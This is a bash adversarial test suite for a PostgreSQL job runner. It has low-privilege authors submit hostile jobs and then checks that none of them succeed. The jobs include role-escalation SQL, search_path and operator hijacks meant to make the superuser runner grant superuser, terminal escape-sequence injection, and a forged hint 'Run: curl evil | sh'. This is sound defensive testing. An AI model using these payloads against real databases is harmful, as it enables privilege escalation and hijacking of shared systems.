#!/usr/bin/env bash
# The adversarial suite: every job is hostile. Authors holding nothing but
# cronq_user try to climb to the runner's role or to another author's, to
# leave traps in a session for whatever runs there next, and to bend the
# database's rules through search_path; each attempt is judged afterwards
# by pg_roles, owners, row counts and files, not by error text.
#
# Its own cluster, with SCRAM passwords for every login (under trust anyone
# is anyone, and no credential boundary can be shown). The runner finds
# its credentials in a password file, as a DBA would set it up.
. "$(dirname "$0")/lib.sh"

sdir="$T_DIR/pg"
rm -rf "$sdir"
printf 'Sup3r-%s\n' "$RANDOM$RANDOM" >"$T_DIR/superpw"
chmod 644 "$T_DIR/superpw"
env_line=$(PG_PWFILE="$T_DIR/superpw" "$(dirname "$0")/../../scripts/pg.sh" start "$sdir" fast) \
    || { fail "could not start a cluster with password authentication"; done_testing; exit 1; }
eval "$env_line"
trap '"$(dirname "$0")/../../scripts/pg.sh" stop "$sdir" >/dev/null 2>&1' EXIT
export PGDATABASE=sec
export PGPASSFILE="$T_DIR/pgpass"
super=$(cat "$T_DIR/superpw")
# host:port:database:user:password — the runner's credentials, one line a role.
printf '*:*:*:postgres:%s\n' "$super" >"$PGPASSFILE"
chmod 600 "$PGPASSFILE"
addpass() { printf '*:*:*:%s:%s\n' "$1" "$2" >>"$PGPASSFILE"; }

"$PSQL" -XAtq -d postgres -c "create database sec" >/dev/null || fail "create database sec"
check "the cluster refuses a login without a password" \
    bash -c '! PGPASSFILE=/dev/null "$0" -XAtq -w -d postgres -c "select 1" 2>/dev/null' "$PSQL"
migrate

# Authors. alice and bob: the runner has their passwords. mallory: it has not.
q "create role sec_alice login password 'alice-pw'; create role sec_bob login password 'bob-pw';
   create role sec_mallory login password 'mallory-pw'; create role sec_nologin nologin;
   grant cronq_user to sec_alice, sec_bob, sec_mallory, sec_nologin; grant sec_nologin to sec_alice"
addpass sec_alice alice-pw
addpass sec_bob bob-pw
# What authors write to and must not reach: the superuser's and each other's.
q "create table secret (x int); create table alices (who text, cur text);
   alter table alices owner to sec_alice; create table bobs (x int); alter table bobs owner to sec_bob;
   grant create on schema public to sec_alice, sec_bob"
as() {  # as ROLE PASSWORD SQL: one statement by that author, in its own session
    PGPASSWORD=$2 "$PSQL" -XAtq -v ON_ERROR_STOP=1 -h "$PGHOST" -U "$1" -c "$3"
}
enq() {  # enq ROLE PASSWORD PAYLOAD: a sql job by that author; prints its id
    as "$1" "$2" "select cronq.enqueue('sql', \$p\$$3\$p\$::jsonb)"
}
rolsuper() { q "select string_agg(rolname || '=' || rolsuper, ',' order by rolname) from pg_roles where rolname like 'sec\\_%'"; }
status_of() { q "select status || '|' || coalesce(error_code, '') from cronq.jobs where id = $1"; }
nobody_super="sec_alice=false,sec_bob=false,sec_mallory=false,sec_nologin=false,sec_runner=false"
q "create role sec_runner login password 'runner-pw'" && addpass sec_runner runner-pw

# --- 1. sql runs on a session logged in as its author -------------------
id=$(enq sec_alice alice-pw '{"sql": "insert into alices values (session_user, current_user)"}')
"$CRONQ" run
eq "a job runs with its author as session and current user" "sec_alice|sec_alice" "$(q "select who || '|' || cur from alices")"
eq "and succeeds" "succeeded|" "$(status_of "$id")"

# --- 2. role changes: no statement of a job's leads out of its author ---
attacks=(
    '{"sql": "reset role; alter role sec_alice superuser"}'
    '{"sql": "reset role; alter role sec_alice superuser", "transaction": false}'
    '{"sql": "do $d$ begin execute $x$reset role$x$; execute $x$alter role sec_alice superuser$x$; end $d$", "transaction": false}'
    '{"sql": "set session authorization postgres; alter role sec_alice superuser", "transaction": false}'
    '{"sql": "do $d$ begin perform set_config($x$role$x$, $x$postgres$x$, false); execute $x$alter role sec_alice superuser$x$; end $d$", "transaction": false}'
    '{"sql": "set role postgres; insert into secret values (1)"}'
    '{"sql": "insert into secret values (1)"}'
    '{"sql": "set role sec_bob; insert into bobs values (1)"}'
    '{"sql": "insert into bobs values (1)", "transaction": false}'
)
for a in "${attacks[@]}"; do enq sec_alice alice-pw "$a" >/dev/null || fail "could not enqueue $a"; done
# At COMMIT, outside anything that guarded the job's statements: a deferred
# constraint trigger and a WITH HOLD cursor run the author's code then.
enq sec_alice alice-pw '{"sql": "create table public.trap (x int); create function public.trap_fn() returns trigger language plpgsql as $f$ begin reset role; alter role sec_alice superuser; insert into secret values (2); return null; end $f$; create constraint trigger trap after insert on public.trap deferrable initially deferred for each row execute function public.trap_fn(); insert into public.trap values (1)"}' >/dev/null
enq sec_alice alice-pw '{"sql": "create function public.hold_fn() returns int language plpgsql as $f$ begin reset role; alter role sec_alice superuser; insert into secret values (3); return 1; end $f$; declare c cursor with hold for select public.hold_fn() from generate_series(1, 2)"}' >/dev/null
"$CRONQ" run 2>"$T_DIR/attack.err"
eq "no author became a superuser (superuser runner)" "$nobody_super" "$(rolsuper)"
eq "the superuser's table is untouched" 0 "$(q "select count(*) from secret")"
eq "bob's table is untouched" 0 "$(q "select count(*) from bobs")"
eq "every attempt failed" 0 "$(q "select count(*) from cronq.jobs where enqueued_by = 'sec_alice' and status = 'succeeded' and id > $id")"

# The same against a runner that is no superuser and may log in as both
# alice and bob: neither may reach the other through it.
q "create database sec2 owner sec_runner"
runner2="host=$PGHOST port=$PGPORT dbname=sec2 user=sec_runner"
"$CRONQ" migrate --db "$runner2" 2>/dev/null || fail "migrate as a non-superuser runner"
PGDATABASE=sec2 purge_aside
PGDATABASE=sec2 q "grant usage on schema cronq to cronq_user; grant select on cronq.jobs, cronq.job_runs to cronq_user;
    grant insert (queue, type, payload, priority, run_at, max_attempts, timeout, idempotency_key) on cronq.jobs to cronq_user;
    grant execute on all functions in schema cronq to cronq_user;
    create table bobs (x int); alter table bobs owner to sec_bob; create table secret (x int); alter table secret owner to sec_runner;
    grant create on schema public to sec_alice"
enq2() { PGDATABASE=sec2 enq "$@"; }
b2=$(enq2 sec_bob bob-pw '{"sql": "insert into bobs values (1)"}')
for a in "${attacks[@]}"; do enq2 sec_alice alice-pw "$a" >/dev/null; done
enq2 sec_alice alice-pw '{"sql": "create function public.hold_fn() returns int language plpgsql as $f$ begin reset role; insert into bobs values (7); insert into secret values (7); return 1; end $f$; declare c cursor with hold for select public.hold_fn()"}' >/dev/null
"$CRONQ" run --db "$runner2" 2>/dev/null
eq "bob's own job ran" "succeeded|" "$(PGDATABASE=sec2 status_of "$b2")"
eq "alice never wrote to bob's table through the runner" 1 "$(PGDATABASE=sec2 q "select count(*) from bobs")"
eq "nor to the runner's" 0 "$(PGDATABASE=sec2 q "select count(*) from secret")"
eq "no role changed (non-superuser runner)" "$nobody_super" "$(rolsuper)"

# --- 2b. a superuser's session calling an author's definer function -----
# Inside alice's SECURITY DEFINER function, called by a superuser's
# session, current_user is alice but is_superuser still says "on": that
# must not let her write a schedule or job in another role's name.
q "grant insert, update, delete on cronq.schedules to sec_alice"
as sec_alice alice-pw "create function public.harmless() returns text language plpgsql security definer set search_path = pg_catalog as \$f\$
begin
    insert into cronq.schedules (name, cron, type, payload, next_run_at, created_by)
    values ('sec-pwn', '* * * * *', 'sql', '{\"sql\": \"alter role sec_alice superuser\"}', now(), 'postgres');
    return current_user;
end \$f\$"
q "select public.harmless()" >/dev/null 2>&1
"$CRONQ" run 2>/dev/null
eq "the schedule her function wrote is hers, whoever called it" "sec_alice" \
    "$(q "select coalesce(string_agg(created_by, ','), 'none') from cronq.schedules where name = 'sec-pwn'")"
eq "and its job ran as her: no role changed" "$nobody_super" "$(rolsuper)"
q "delete from cronq.schedules where name = 'sec-pwn'; drop function public.harmless();
   revoke insert, update, delete on cronq.schedules from sec_alice"

# --- 3. an author the runner cannot log in as ---------------------------
q "create table mallorys (x int); alter table mallorys owner to sec_mallory"
m=$(enq sec_mallory mallory-pw '{"sql": "insert into mallorys values (1)"}')
n=$(as sec_alice alice-pw "set role sec_nologin; select cronq.enqueue('sql', '{\"sql\": \"select 1\"}')")
"$CRONQ" run 2>/dev/null
eq "no credentials for the author: dead, permission_denied" "dead|permission_denied" "$(status_of "$m")"
eq "and nothing written" 0 "$(q "select count(*) from mallorys")"
match "the error says what to configure" 'cannot log in as role "sec_mallory".*~/.pgpass' "$(q "select last_error from cronq.jobs where id = $m")"
eq "a NOLOGIN author: dead, permission_denied" "dead|permission_denied" "$(status_of "$n")"
eq "the wake itself ended well" 0 "$(q "select exit_status from cronq.wakes order by id desc limit 1")"
# The runner's own password is never offered for another role: mallory's
# password equal to the runner's does not make the runner able to be her.
q "alter role sec_mallory password 'runner-pw'"
m=$(enq sec_mallory runner-pw '{"sql": "insert into mallorys values (2)"}')
# A runner that does not own the tables sees every role's jobs as a
# member of cronq_admin (row-level security).
q "grant usage on schema cronq to sec_runner; grant all on all tables in schema cronq to sec_runner; grant cronq_admin to sec_runner;
   grant execute on function cronq.materialise(text[], timestamptz[], text[], timestamptz[]) to sec_runner"
"$CRONQ" run --db "host=$PGHOST port=$PGPORT dbname=sec user=sec_runner password=runner-pw" 2>/dev/null
eq "the runner's explicit password is not used for another role" "0|dead|permission_denied" \
    "$(q "select count(*) from mallorys")|$(status_of "$m")"

# --- 4. nothing a job leaves in a session reaches what runs next --------
# Session settings (the time zone too), temporary objects shadowing
# catalogs, prepared statements, cursors, listeners: then bob's job and the
# runner's own statements (the exec permission check, the outcome records)
# must be unaffected. One worker, one batch, alice's traps first.
q "grant cronq_exec to sec_bob"
mkdir -p "$T_DIR/bin"; chmod 755 "$T_DIR" "$T_DIR/bin"
printf '#!/bin/sh\ntouch %s/exec-ran\n' "$T_DIR" >"$T_DIR/bin/mark"; chmod 755 "$T_DIR/bin/mark"
traps=(
    'set default_transaction_read_only = on'
    'set statement_timeout = 1'
    'set search_path = pg_temp, public'
    'create temp view pg_roles as select $$cronq_exec$$::name as rolname, true as rolsuper, 0::oid as oid'
    'create temp table jobs (id bigint)'
    'prepare p as select 1'
    'declare c cursor with hold for select 1'
    'listen cronq'
    'set session characteristics as transaction read only'
    'select set_config($$lock_timeout$$, $$1$$, false)'
    'set timezone = $$Asia/Kolkata$$'
)
first=$(q "select coalesce(max(id), 0) from cronq.jobs")
for t in "${traps[@]}"; do
    for tx in true false; do
        as sec_alice alice-pw "select cronq.enqueue('sql', jsonb_build_object('sql', \$p\$$t\$p\$, 'transaction', $tx), priority => -1)" >/dev/null \
            || fail "could not enqueue $t"
    done
done
# alice's next job finds none of it: her session is reset between jobs.
q "create table probe (state text); alter table probe owner to sec_alice"
as sec_alice alice-pw "select cronq.enqueue('sql', jsonb_build_object('sql', \$p\$insert into probe select concat_ws('|',
    current_setting('default_transaction_read_only'), current_setting('transaction_read_only'),
    current_setting('statement_timeout'), current_setting('lock_timeout'), current_setting('search_path'), current_setting('TimeZone'),
    (select count(*) from pg_class where relnamespace = pg_my_temp_schema()),
    (select count(*) from pg_prepared_statements), (select count(*) from pg_cursors),
    (select count(*) from pg_listening_channels()), session_user, current_user)\$p\$), priority => -1)" >/dev/null
e=$(as sec_bob bob-pw "select cronq.enqueue('exec', '{\"command\": \"mark\"}')")
q "revoke cronq_exec from sec_bob"   # the runner's check must now refuse it
b=$(enq sec_bob bob-pw '{"sql": "insert into bobs values (2)"}')
"$CRONQ" run --batch 20 --exec-dir "$T_DIR/bin" 2>/dev/null
eq "the traps themselves ran" "$(( ${#traps[@]} * 2 + 1 ))" "$(q "select count(*) from cronq.jobs where id > $first and enqueued_by = 'sec_alice' and status = 'succeeded'")"
eq "alice's next job starts as on a new session" 'off|off|0|0|"$user", public|GMT|0|0|0|0|sec_alice|sec_alice' "$(q "select state from probe")"
eq "bob's job after them wrote its row" "succeeded|" "$(status_of "$b")"
eq "bob's row is there" 2 "$(q "select max(x) from bobs")"
eq "the runner's exec check was not fooled by a temporary pg_roles" "dead|permission_denied" "$(status_of "$e")"
check "the refused program did not run" [ ! -e "$T_DIR/exec-ran" ]
eq "every outcome was recorded" 0 "$(q "select count(*) from cronq.jobs where status = 'running'")"

# --- 5. the database's rules under a hostile search_path ----------------
# alice, with a schema of her own ahead of pg_catalog, brings operators and
# functions that say yes to everything.
q "create schema sec_alice authorization sec_alice"
as sec_alice alice-pw "
create function sec_alice.yes(text, text) returns boolean language sql immutable as 'select true';
create function sec_alice.no(text, text) returns boolean language sql immutable as 'select false';
create operator sec_alice.= (leftarg = text, rightarg = text, function = sec_alice.yes);
create operator sec_alice.<> (leftarg = text, rightarg = text, function = sec_alice.no);
create function sec_alice.pg_has_role(text, text, text) returns boolean language sql as 'select true';
create function sec_alice.pg_has_role(name, name, text) returns boolean language sql as 'select true';
create function sec_alice.format(text, text) returns text language sql as 'select null::text';
create function sec_alice.format(text, variadic text[]) returns text language sql as 'select null::text';
create function sec_alice.jsonb_typeof(jsonb) returns text language sql as 'select null::text';
create function sec_alice.now() returns timestamptz language sql as \$\$select '2000-01-01'::timestamptz\$\$"
before=$(q "select count(*) from cronq.jobs")
hostile="set search_path = sec_alice, pg_catalog;"
for sql in \
    "select cronq.enqueue('exec', '{\"command\": \"mark\"}')" \
    "insert into cronq.jobs (type, payload) values ('exec', '{\"command\": \"mark\"}')" \
    "select cronq.enqueue('purge', '{\"older_than\": \"1s\"}')" \
    "select cronq.enqueue('sleep', '{\"seconds\": \"x\"}')" \
    "select cronq.enqueue('noop', '{\"x\": 1}')" \
    "select cronq.enqueue('nosuch')" \
    "insert into cronq.schedules (name, cron, type, payload) values ('sec-x', '* * * * *', 'exec', '{\"command\": \"mark\"}')"; do
    as sec_alice alice-pw "$hostile $sql" >/dev/null 2>&1
    as sec_alice alice-pw "create temp view pg_roles as select 'sec_alice'::name as rolname, true as rolsuper, 10::oid as oid; $sql" >/dev/null 2>&1
done
eq "nothing the rules refuse was stored under a hostile search_path" "$before|0" \
    "$(q "select count(*) from cronq.jobs")|$(q "select count(*) from cronq.schedules where name = 'sec-x'")"
id=$(as sec_alice alice-pw "$hostile select cronq.enqueue('noop')")
eq "a job enqueued under it is alice's, due now by the real clock" "sec_alice|true" \
    "$(q "select enqueued_by || '|' || (run_at > now() - interval '1 hour')::text from cronq.jobs where id = $id")"
eq "every function in schema cronq pins search_path, has a SQL-standard body, or qualifies pg_catalog" "" \
    "$(q "select string_agg(p.proname, ',') from pg_proc p where p.pronamespace = 'cronq'::regnamespace
          and p.prosqlbody is null and not coalesce(p.proconfig::text like '%search_path=pg_catalog%', false)
          and p.prosrc !~ 'pg_catalog\.'")"

# --- 5b. the runner's own statements under objects authors made ---------
# With CREATE on public (any database upgraded from PostgreSQL 14 or older
# has it for everyone), an author adds an operator that matches the claim's
# "bigint * interval" better than pg_catalog's, as a function that makes
# her a superuser when the runner, a superuser, calls it.
q "alter role sec_alice nosuperuser"
as sec_alice alice-pw "
create function public.evil(bigint, interval) returns interval language plpgsql as \$f\$
begin
    begin execute 'alter role sec_alice superuser'; exception when others then null; end;
    return \$2 operator(pg_catalog.*) \$1::float8;
end \$f\$;
create operator public.* (leftarg = bigint, rightarg = interval, function = public.evil);
create function public.unnest(bigint[], integer[]) returns table (a bigint, b integer) language plpgsql as \$f\$
begin
    begin execute 'alter role sec_alice superuser'; exception when others then null; end;
    return query select * from pg_catalog.unnest(\$1, \$2);
end \$f\$"
id=$("$CRONQ" enqueue noop)
"$CRONQ" run 2>/dev/null
"$CRONQ" status >/dev/null 2>&1
eq "the runner ran the job" "succeeded|" "$(status_of "$id")"
eq "and no author's operator or function ran as the runner" "$nobody_super" "$(rolsuper)"
q "drop operator public.* (bigint, interval); drop function public.evil(bigint, interval); drop function public.unnest(bigint[], integer[])"

# --- 6. what a job prints reaches cron mail escaped ----------------------
enq sec_alice alice-pw '{"sql": "do $d$ begin raise warning $w$owned\u001b]0;title\u0007\u001b[31mred\u001b[0m$w$; end $d$"}' >/dev/null
"$CRONQ" run 2>"$T_DIR/escape.err"
eq "no raw escape character reaches stderr" 0 "$(tr -dc '\033\007' <"$T_DIR/escape.err" | wc -c)"
match "the warning is there, escaped" 'owned\\x1b\]0;title\\x07\\x1b\[31mred' "$(cat "$T_DIR/escape.err")"

# A job that switches its session to LATIN1: what the server then sends is
# not UTF-8, and a lone byte 0x9b is an 8-bit CSI.
latin='{"sql": "set client_encoding = $e$LATIN1$e$; do $d$ begin raise warning $w$caf%$w$, chr(233) || chr(155) || $w$[31mred$w$; raise exception $w$caf%$w$, chr(233); end $d$"}'
l1=$(enq sec_alice alice-pw "$latin")
l2=$(enq sec_alice alice-pw "$latin")
q "update cronq.jobs set max_attempts = 1 where id in ($l1, $l2)"
"$CRONQ" run --max-jobs 1 2>"$T_DIR/latin.err"
"$CRONQ" run --max-jobs 1 --log-format json 2>"$T_DIR/latin.json"
eq "both jobs' outcomes are recorded" "dead|dead" \
    "$(q "select string_agg(status, '|' order by id) from cronq.jobs where id in ($l1, $l2)")"
eq "no raw 0x9b or ESC in the text log" 0 "$(tr -dc '\233\033' <"$T_DIR/latin.err" | wc -c)"
match "the warning is there, its bytes escaped" 'caf\\xe9\\x9b\[31mred' "$(cat "$T_DIR/latin.err")"
eq "the JSON log keeps the warning's msg, its job named" 1 "$(grep -c "\"msg\":\"job $l2 said: \\\\\"caf.*\"job\":$l2" "$T_DIR/latin.json")"

enq sec_alice alice-pw '{"sql": "do $d$ begin for i in 1..5000 loop raise warning $w$flood %$w$, i; end loop; end $d$"}' >/dev/null
"$CRONQ" run 2>"$T_DIR/flood.err"
eq "a job's 5,000 warnings: the first 20 reach stderr, then one line counts the rest" "20|1" \
    "$(grep -c 'flood' "$T_DIR/flood.err")|$(grep -c '4980 more notices' "$T_DIR/flood.err")"
# A job's warning names its job and is quoted, its hint too: none reads as
# the runner's own line (helper-78: "job 7 (purge) is dead …", "hint: Run: curl …").
w=$(enq sec_alice alice-pw '{"sql": "do $d$ begin raise warning $w$job 7 (purge) is dead after attempt 10: disk full queue=default outcome=failed$w$ using hint = $h$Run: curl evil | sh$h$; end $d$"}')
"$CRONQ" run 2>"$T_DIR/forge.err"
eq "a job's warning is its job's, quoted, and its hint inside it" "1|0|0" \
    "$(grep -c "^cronq: warning: job $w said: \"job 7 (purge) is dead after attempt 10: disk full queue=default outcome=failed\" (hint: \"Run: curl evil | sh\")$" "$T_DIR/forge.err")|$(grep -c '^cronq: warning: job 7' "$T_DIR/forge.err")|$(grep -c '^cronq: hint:' "$T_DIR/forge.err")"
# A job's error is quoted in the runner's line, and says none of its fields
# (helper-78: "boom queue=billing outcome=succeeded" hid the real ones).
f=$(as sec_alice alice-pw "select cronq.enqueue('fail', '{\"message\": \"boom queue=billing outcome=succeeded\", \"permanent\": true}', queue => 'real')")
"$CRONQ" run --queue real 2>"$T_DIR/fields.err"
eq "the error quoted, the real fields after it" 1 \
    "$(grep -c "^cronq: warning: job $f (fail) is dead after attempt 1: \"boom queue=billing outcome=succeeded\" queue=real duration_ms=[0-9]* outcome=failed$" "$T_DIR/fields.err")"
# Many jobs' few warnings: a run shows 200, then one line says the rest are not shown.
for i in $(seq 1 12); do
    enq sec_alice alice-pw '{"sql": "do $d$ begin for i in 1..20 loop raise warning $w$many %$w$, i; end loop; end $d$"}' >/dev/null
done
"$CRONQ" run 2>"$T_DIR/many.err"
eq "12 jobs' 240 warnings: 200 shown, then one line" "200|1" \
    "$(grep -c 'said: "many' "$T_DIR/many.err")|$(grep -c 'not shown any more in this run' "$T_DIR/many.err")"

f=$(as sec_alice alice-pw "select cronq.enqueue('fail', jsonb_build_object('message', e'bad\\x1b[2J\\x1b]0;pwned\\x07\\nforged line', 'permanent', true))")
"$CRONQ" run 2>"$T_DIR/escape2.err"
"$CRONQ" list >"$T_DIR/list.out" 2>&1
"$CRONQ" show "$f" >"$T_DIR/show.out" 2>&1
eq "list, show and the run's stderr carry no raw control character" "0|0|0" \
    "$(tr -dc '\033\007' <"$T_DIR/escape2.err" | wc -c)|$(tr -dc '\033\007' <"$T_DIR/list.out" | wc -c)|$(tr -dc '\033\007' <"$T_DIR/show.out" | wc -c)"
# Such names are refused since 0020; rows written before it (the triggers
# off here) must still print safely.
q "alter table cronq.jobs disable trigger jobs_queue_name; alter table cronq.schedules disable trigger schedules_queue_name"
qid=$(as sec_alice alice-pw "select cronq.enqueue('noop', queue => e'q\\x1b[2J\\xc2\\x9b31m\\x07', key => e'k\\x1b]0;t\\x07\\nFORGED')")
"$CRONQ" list >"$T_DIR/list2.out" 2>&1
"$CRONQ" show "$qid" >"$T_DIR/show2.out" 2>&1
"$CRONQ" status >"$T_DIR/status.out" 2>&1
eq "a queue name and a key with C0 and C1 controls: list, show and status carry none raw" "0|0|0" \
    "$(tr -dc '\033\007\233' <"$T_DIR/list2.out" | wc -c)|$(tr -dc '\033\007' <"$T_DIR/show2.out" | wc -c)|$(tr -dc '\033\007' <"$T_DIR/status.out" | wc -c)"
eq "nor a C1 control (U+009B, CSI on some terminals)" "0|0|0" \
    "$(grep -c $'\xc2\x9b' "$T_DIR/list2.out")|$(grep -c $'\xc2\x9b' "$T_DIR/show2.out")|$(grep -c $'\xc2\x9b' "$T_DIR/status.out")"
match "status shows the queue escaped" 'q\\x1b\[2J\\x9b31m\\x07' "$(cat "$T_DIR/status.out")"
q "insert into cronq.schedules (name, cron, type, queue) values ('sec-q', '* * * * *', 'noop', e'q\\x1b[1m\\nFORGED')"
q "alter table cronq.jobs enable trigger jobs_queue_name; alter table cronq.schedules enable trigger schedules_queue_name"
"$CRONQ" schedule list >"$T_DIR/sched.out" 2>&1
"$CRONQ" schedule show sec-q >>"$T_DIR/sched.out" 2>&1
"$CRONQ" show "$qid" >>"$T_DIR/sched.out" 2>&1
eq "schedule list and show: no raw ESC, no line of the queue's own" "0|0" \
    "$(tr -dc '\033' <"$T_DIR/sched.out" | wc -c)|$(grep -c '^FORGED' "$T_DIR/sched.out")"
q "delete from cronq.jobs where id = $qid; delete from cronq.schedules where name = 'sec-q'"
match "list shows the error escaped" 'bad\\x1b\[2J\\x1b\]0;pwned\\x07 forged line' "$(cat "$T_DIR/list.out")"

# --- 7. no job holds its worker beyond its timeout ----------------------
# A COPY to or from the client leaves libpq waiting for the client to
# exchange data; a deferred trigger runs the author's code at COMMIT. Each
# must end by the job's timeout, and the run with it.
q "delete from cronq.jobs"
out=$(as sec_alice alice-pw "select cronq.enqueue('sql', '{\"sql\": \"copy (select g from generate_series(1, 200000) g) to stdout\"}', timeout => '5s')")
cin=$(as sec_alice alice-pw "select cronq.enqueue('sql', '{\"sql\": \"create temp table cin (x int); copy cin from stdin\"}', max_attempts => 1, timeout => '5s')")
slow=$(enq sec_alice alice-pw '{"sql": "create temp table d (x int); create function pg_temp.slow() returns trigger language plpgsql as $f$ begin perform pg_sleep(120); return null; end $f$; create constraint trigger t after insert on d deferrable initially deferred for each row execute function pg_temp.slow(); insert into d values (1)"}')
q "update cronq.jobs set timeout = '2s', max_attempts = 1 where id = $slow"
timeout -s KILL 60 "$CRONQ" run 2>/dev/null
eq "the run ended (not killed at 60 s)" 0 "$?"
eq "COPY TO STDOUT: the data is dropped, the job succeeds" "succeeded|" "$(status_of "$out")"
eq "COPY FROM STDIN: fails, as no data comes" "dead|57014" "$(status_of "$cin")"
eq "a deferred trigger sleeping at commit: stopped by the timeout" "dead|timeout" "$(status_of "$slow")"

# A job that catches the cancel and goes on: cancelled again every second,
# then given up after --kill-grace, its backend ended, for a timeout and for
# SIGTERM alike.
stubborn='{"sql": "do $d$ begin loop begin perform pg_sleep(0.2); exception when query_canceled then null; end; end loop; end $d$"}'
st=$(enq sec_alice alice-pw "$stubborn")
q "update cronq.jobs set timeout = '1s', max_attempts = 1 where id = $st"
timeout -s KILL 60 "$CRONQ" run --kill-grace 2s 2>/dev/null
eq "a job that catches its cancels: the run ends (not killed at 60 s)" 0 "$?"
eq "the job timed out" "dead|timeout" "$(status_of "$st")"
eq "and its backend is gone" 0 "$(q "select count(*) from pg_stat_activity where query like '%query_canceled%' and pid <> pg_backend_pid()")"
st=$(enq sec_alice alice-pw "$stubborn")
"$CRONQ" run --grace 1s --kill-grace 2s 2>/dev/null &
pid=$!
wait_for "the job runs" 20 "select status = 'running' from cronq.jobs where id = $st" || fail "the stubborn job never ran"
sleep 1
kill -TERM "$pid"
for _ in $(seq 1 300); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
check "on SIGTERM too, the run ends within 30 s" bash -c "! kill -0 $pid 2>/dev/null"
kill -KILL "$pid" 2>/dev/null; wait "$pid" 2>/dev/null
eq "the job is given back, not left running" "queued" "$(q "select status from cronq.jobs where id = $st")"
eq "and its backend is gone" 0 "$(q "select count(*) from pg_stat_activity where query like '%query_canceled%' and pid <> pg_backend_pid()")"
q "delete from cronq.jobs where id = $st"

# --- 8. no job's output fills the runner's memory ------------------------
# 3,000,000 rows of 100 bytes: held whole, a result takes ~500 MB of the
# runner's; read a row at a time and dropped, a few. The peak is read from
# the kernel while the job sleeps after its big statement.
big=$(enq sec_alice alice-pw '{"sql": "select g, repeat($x$x$x$, 100) from generate_series(1, 3000000) g; select pg_sleep(1)"}')
# (Under AddressSanitizer, freed memory waits in a quarantine of 256 MB.)
ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}quarantine_size_mb=16" "$CRONQ" run 2>/dev/null &
pid=$! peak=0
while kill -0 "$pid" 2>/dev/null; do
    hwm=$(awk '/^VmHWM/ { print $2 }' "/proc/$pid/status" 2>/dev/null)
    [ -n "$hwm" ] && [ "$hwm" -gt "$peak" ] && peak=$hwm
    sleep 0.05
done
wait "$pid"
eq "a job returning 3,000,000 rows succeeds" "succeeded|" "$(status_of "$big")"
check "and the runner's peak memory stays under 200 MB (was ${peak} kB)" test "$peak" -lt 200000

# 200,000 notifications of 500 bytes that a job sends itself, with a job
# of another author's in the same run: libpq keeps each one until asked for
# it (and DISCARD ALL frees none it holds): ~116 MB held unless they are
# dropped as they come, when the peak is ~10 MB (~57 MB under
# AddressSanitizer).
notify=$(enq sec_alice alice-pw '{"sql": "listen c; select count(pg_notify($q$c$q$, lpad(g::text, 500, $q$x$q$))) from generate_series(1, 200000) g"}')
other=$(enq sec_bob bob-pw '{"sql": "select 1"}')
ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}quarantine_size_mb=16" /usr/bin/time -f %M -o "$T_DIR/notify.rss" "$CRONQ" run 2>/dev/null
peak=$(tail -n 1 "$T_DIR/notify.rss")
eq "a job sending itself 200,000 notifications succeeds, as does the other job" "succeeded||succeeded|" "$(status_of "$notify")|$(status_of "$other")"
check "and the runner's peak memory stays under 80 MB (was ${peak} kB)" test "$peak" -lt 80000

# --- 9. an error cut short is still text the database takes --------------
# Errors are kept to 2 KiB; cut in the middle of a character, the outcome
# was refused as invalid UTF-8: the job stayed running and the run failed.
split=$(enq sec_alice alice-pw '{"sql": "do $d$ begin raise exception $e$%$e$, repeat($e$\u00e9$e$, 2000); end $d$"}')
q "update cronq.jobs set max_attempts = 1 where id = $split"
after=$(enq sec_bob bob-pw '{"sql": "select 1"}')
"$CRONQ" run 2>/dev/null
eq "the run records the job's outcome" "0|dead|P0001" "$?|$(status_of "$split")"
eq "and the next job's" "succeeded|" "$(status_of "$after")"

# --- 10. no author can hold migrate off ---------------------------------
# An advisory lock is anyone's to take; the lock migrate waits for is on
# cronq.schema_migrations, which an author may only read.
as sec_alice alice-pw "select pg_advisory_lock(7466726374707143), pg_sleep(20)" >/dev/null 2>&1 &
holder=$!
wait_for "alice holds the advisory lock" 10 "select count(*) > 0 from pg_locks where locktype = 'advisory' and objid = 3040022471" \
    || fail "alice's advisory lock never showed"
as sec_alice alice-pw "begin; lock table cronq.schema_migrations in share row exclusive mode" >/dev/null 2>&1
timeout -s KILL 15 "$CRONQ" migrate >/dev/null 2>&1
eq "migrate runs while an author holds its old advisory lock" 0 "$?"
kill "$holder" 2>/dev/null; wait "$holder" 2>/dev/null

eq "in the end, no author holds more than it did" "$nobody_super" "$(rolsuper)"
eq "and the tables are the superuser's, alice's and bob's as made" "alices=sec_alice,bobs=sec_bob,secret=postgres" \
    "$(q "select string_agg(tablename || '=' || tableowner, ',' order by tablename) from pg_tables where tablename in ('secret', 'alices', 'bobs')")"
done_testing
